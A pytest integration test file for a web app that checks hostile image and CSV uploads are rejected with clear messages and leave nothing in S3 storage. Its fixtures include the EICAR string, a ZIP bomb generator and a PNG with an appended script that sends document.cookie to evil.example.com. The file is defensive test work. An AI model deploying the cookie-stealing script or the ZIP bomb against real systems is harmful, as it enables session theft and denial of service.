"""Hostile uploads are refused with a clear message, on the pages and through the API, and nothing of
them stays in the bucket or reaches a table (P8): the EICAR test file, a polyglot image (an image
with a ZIP or a script appended), an SVG with a script, a ZIP named .csv and a ZIP bomb.

Every file is made here, in the test; the EICAR string is put together in code so that no file of
the repository holds it (a virus scanner on a developer's machine would quarantine it). The
browser's POST to S3 cannot reach in-process moto, so the tests put the object under the key the
presigned form fixes, as S3 would. The stand-in scanner runs (no clamd socket in the tests).
"""

import io
import json
import re
import zipfile
from urllib.parse import urlsplit

import pytest
from PIL import Image

from chalicelib.config import settings
from tests.integration.audience_helpers import EXPORTS_BUCKET, account_with_list, members
from tests.integration.test_data_rights import run_background_jobs


def _eicar() -> bytes:
    return "".join(["X5O!P%@AP[4\\PZX54(P^)7CC)7}$", "EICAR-STANDARD-", "ANTIVIRUS-TEST-FILE!$H+H*"]).encode()


def _png() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (32, 32), "orange").save(out, format="PNG")
    return out.getvalue()


def _zip(entries: dict) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return out.getvalue()


def _zip_bomb() -> bytes:
    """64 MB of zeros in each of ten entries, deflated to a few hundred KB: 640 MB unpacked."""
    out = io.BytesIO()
    zeros = bytes(1024 * 1024)
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED, compresslevel=9) as archive:
        for number in range(10):
            with archive.open(f"contacts-{number}.csv", "w", force_zip64=True) as entry:
                for _ in range(64):
                    entry.write(zeros)
    return out.getvalue()


HOSTILE_IMAGES = {
    "eicar": (_eicar(), "malware-found", "found malware in this file"),
    "png-with-zip": (_png() + _zip({"payload.html": "<p>hi</p>"}), "image-polyglot", "hidden in it"),
    "png-with-script": (_png() + b"<script>fetch('https://evil.example.com/?'+document.cookie)</script>",
                        "image-polyglot", "hidden in it"),
    "svg-with-script": (b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script>'
                        b'<circle r="4"/></svg>', "image-refused", "SVG images can contain scripts"),
    "zip-bomb": (None, "image-refused", "not an image we can use"),
}
HOSTILE_CSV = {
    "eicar": (_eicar(), "malware-found", "found malware in this file"),
    "eicar-among-contacts": (b"email\nanna@example.com\n" + _eicar() + b"\n", "malware-found",
                             "found malware in this file"),
    "zip-named-csv": (_zip({"contacts.csv": "email\nanna@example.com\n"}), "not-csv", "not a CSV file but a ZIP file"),
    "zip-bomb": (None, "not-csv", "not a CSV file but a ZIP file"),
}


@pytest.fixture(scope="module")
def zip_bomb() -> bytes:
    bomb = _zip_bomb()
    assert len(bomb) < 2 * 1024 * 1024 and sum(i.file_size for i in zipfile.ZipFile(io.BytesIO(bomb)).infolist()) \
        == 10 * 64 * 1024 * 1024
    return bomb


def _versions(s3, bucket: str, prefix: str) -> list:
    listing = s3.list_object_versions(Bucket=bucket, Prefix=prefix)
    return listing.get("Versions", []) + listing.get("DeleteMarkers", [])


def _hidden_fields(page: str) -> dict:
    return {name: value.replace("&amp;", "&")
            for name, value in re.findall(r'<input type="hidden" name="([^"]+)" value="([^"]*)">', page)}


# --- images ----------------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", HOSTILE_IMAGES)
def test_hostile_image_is_refused_through_the_api_and_leaves_nothing(client, app_module, aws_resources, outbox,
                                                                      zip_bomb, kind):
    # GIVEN an account holder who began an image upload through the API and sent a hostile file
    data, code, message = HOSTILE_IMAGES[kind]
    cookie, csrf, _ = account_with_list(client, app_module, aws_resources, outbox)
    headers = {"Cookie": cookie, "X-CSRF-Token": csrf, "Accept-Language": "en"}
    upload = json.loads(client.post("/api/v1/images", headers=headers, body=b"").body)
    s3 = aws_resources.client("s3")
    s3.put_object(Bucket=settings().assets_bucket, Key=upload["fields"]["key"], Body=data or zip_bomb)
    # WHEN the upload is finished
    answer = client.post(f"/api/v1/images/{upload['upload_id']}/finish", headers=headers, body=b"")
    # THEN it is a 4xx problem that says why, never a 500
    problem = json.loads(answer.body)
    assert answer.status_code == 422 and problem["type"].endswith("/" + code), problem
    assert message in problem["detail"], problem
    # AND nothing of it is left in the bucket: no upload, no image, no record
    assert _versions(s3, settings().assets_bucket, "") == []
    assert json.loads(client.get("/api/v1/images", headers=headers).body) == []


@pytest.mark.parametrize("kind", HOSTILE_IMAGES)
def test_hostile_image_is_refused_on_the_images_page_and_leaves_nothing(client, app_module, aws_resources, outbox,
                                                                        zip_bomb, kind):
    # GIVEN an account holder on the images page, whose browser sent a hostile file to S3
    data, _code, message = HOSTILE_IMAGES[kind]
    cookie, _, _ = account_with_list(client, app_module, aws_resources, outbox)
    fields = _hidden_fields(client.get("/images?lang=en", headers={"Cookie": cookie}).body.decode())
    s3 = aws_resources.client("s3")
    s3.put_object(Bucket=settings().assets_bucket, Key=fields["key"], Body=data or zip_bomb)
    # WHEN S3 sends the browser back to the page
    back = urlsplit(fields["success_action_redirect"])
    page = client.get(f"{back.path}?{back.query}&lang=en", headers={"Cookie": cookie})
    # THEN the images page says why beside the file field
    body = page.body.decode()
    assert page.status_code == 422 and message in body and 'aria-invalid="true"' in body, body[:300]
    # AND nothing of it is left in the bucket
    assert _versions(s3, settings().assets_bucket, "incoming/") == []
    assert _versions(s3, settings().assets_bucket, "assets/") == []


# --- CSV imports -----------------------------------------------------------------------------------

@pytest.mark.parametrize("kind", HOSTILE_CSV)
def test_hostile_contacts_file_is_refused_through_the_api_and_leaves_nothing(client, app_module, aws_resources,
                                                                             outbox, zip_bomb, kind):
    # GIVEN an import begun through the API, with a hostile file uploaded
    data, code, message = HOSTILE_CSV[kind]
    cookie, csrf, list_id = account_with_list(client, app_module, aws_resources, outbox)
    headers = {"Cookie": cookie, "X-CSRF-Token": csrf, "Content-Type": "application/json", "Accept-Language": "en"}
    created = json.loads(client.post(f"/api/v1/lists/{list_id}/imports", headers=headers, body=b"").body)
    s3 = aws_resources.client("s3")
    key = created["upload"]["fields"]["key"]
    assert key.endswith(".csv")
    s3.put_object(Bucket=EXPORTS_BUCKET, Key=key, Body=data or zip_bomb)
    # WHEN the client asks for the mapping step
    answer = client.get(f"/api/v1/imports/{created['import_id']}", headers=headers)
    # THEN it is a 422 problem that says why
    problem = json.loads(answer.body)
    assert answer.status_code == 422 and problem["type"].endswith("/" + code), problem
    assert message in problem["detail"], problem
    # AND the file is gone, the import cannot start, and no contact reached the table
    assert _versions(s3, EXPORTS_BUCKET, key) == []
    started = client.post(f"/api/v1/imports/{created['import_id']}/start", headers=headers, body=json.dumps(
        {"mapping": {"0": "email"}, "declared": True, "lawful_basis": "webshop"}).encode())
    assert started.status_code == 409, started.body
    run_background_jobs(app_module, aws_resources)
    assert members(aws_resources, list_id) == []


@pytest.mark.parametrize("kind", HOSTILE_CSV)
def test_hostile_contacts_file_is_refused_on_the_import_pages_and_leaves_nothing(client, app_module, aws_resources,
                                                                                 outbox, zip_bomb, kind):
    # GIVEN an account holder on the import page, whose browser sent a hostile file to S3
    data, _code, message = HOSTILE_CSV[kind]
    cookie, _, list_id = account_with_list(client, app_module, aws_resources, outbox)
    fields = _hidden_fields(client.get(f"/lists/{list_id}/imports", headers={"Cookie": cookie}).body.decode())
    s3 = aws_resources.client("s3")
    s3.put_object(Bucket=EXPORTS_BUCKET, Key=fields["key"], Body=data or zip_bomb)
    # WHEN S3 sends the browser back to the mapping step
    back = urlsplit(fields["success_action_redirect"])
    page = client.get(f"{back.path}?lang=en", headers={"Cookie": cookie})
    # THEN the page says why, and the file is gone, and nobody was imported
    assert page.status_code == 422 and message in page.body.decode(), page.body[:300]
    assert _versions(s3, EXPORTS_BUCKET, fields["key"]) == []
    assert members(aws_resources, list_id) == []


def test_contacts_file_swapped_for_eicar_after_the_mapping_step_imports_nobody(client, app_module, aws_resources,
                                                                              outbox):
    # GIVEN an import whose clean file was read at the mapping step and which was started
    cookie, csrf, list_id = account_with_list(client, app_module, aws_resources, outbox)
    headers = {"Cookie": cookie, "X-CSRF-Token": csrf, "Content-Type": "application/json", "Accept-Language": "en"}
    created = json.loads(client.post(f"/api/v1/lists/{list_id}/imports", headers=headers, body=b"").body)
    key = created["upload"]["fields"]["key"]
    s3 = aws_resources.client("s3")
    s3.put_object(Bucket=EXPORTS_BUCKET, Key=key, Body=b"email\nanna@example.com\n")
    ready = json.loads(client.get(f"/api/v1/imports/{created['import_id']}", headers=headers).body)
    assert client.post(f"/api/v1/imports/{created['import_id']}/start", headers=headers, body=json.dumps(
        {"mapping": ready["mapping"], "declared": True, "lawful_basis": "webshop"}).encode()).status_code == 202
    # WHEN the file is replaced by the EICAR file (with an address in it) before the job reads it
    s3.put_object(Bucket=EXPORTS_BUCKET, Key=key, Body=b"email\nbert@example.com\n" + _eicar() + b"\n")
    run_background_jobs(app_module, aws_resources)
    # THEN the job stops and says why, the file is gone and nobody was imported
    done = json.loads(client.get(f"/api/v1/imports/{created['import_id']}", headers=headers).body)
    assert done["status"] == "failed" and "malware" in done["problem"], done
    assert done["counts"]["imported"] == 0 and members(aws_resources, list_id) == []
    assert _versions(s3, EXPORTS_BUCKET, key) == []


# --- testimonial photos ----------------------------------------------------------------------------

@pytest.mark.parametrize("kind", HOSTILE_IMAGES)
def test_hostile_testimonial_photo_is_refused_on_its_page_and_leaves_nothing(client, app_module, aws_resources,
                                                                            outbox, zip_bomb, kind):
    # GIVEN a customer whose browser sent a hostile file as the photo of a testimonial
    from tests.integration.testimonial_helpers import customer, upload_photo

    data, _code, message = HOSTILE_IMAGES[kind]
    cookie, _ = customer(client, app_module, aws_resources, outbox)
    # WHEN S3 sends the browser back to the page
    page = upload_photo(client, f"{cookie}; lang=en", aws_resources, data or zip_bomb)
    # THEN the page says why beside the photo field, and nothing of the file is left in the bucket
    body = page.body.decode()
    assert page.status_code == 422 and 'id="photo-error"' in body and message in body, body[:300]
    assert _versions(aws_resources.client("s3"), settings().assets_bucket, "") == []
